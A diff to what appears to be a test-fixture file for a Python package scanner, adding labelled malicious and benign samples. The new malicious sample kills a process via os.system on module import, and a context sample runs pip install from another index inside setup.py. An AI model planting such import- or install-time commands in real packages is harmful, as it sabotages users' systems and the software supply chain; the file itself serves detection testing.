@@ -11,6 +11,11 @@ const COMMAND = (body: string): string =>
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a program that is ended when the module is loaded',
+      files: wheel("import os\nos.system('taskkill /F /IM own.exe')\n"),
+      expected: at('program', 'high', 2, 'own/__init__.py'),
+    },
+    {
       name: 'another index that a setup script names',
       files: sdist(
         "import os\nfrom setuptools import setup\nos.system('pip install --index-url https://index.weir.test/simple other')\nsetup(name='own')\n",
@@ -99,6 +104,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a question about the processor that a function asks',
+      wheel(
+        "import subprocess\ndef name():\n    return subprocess.check_output(['wmic', 'cpu', 'get', 'name'])\n",
+      ),
+    ),
     quiet(
       'another runtime that a function starts',
       wheel("import subprocess\ndef check(path):\n    return subprocess.run(['node', '--check', path])\n"),
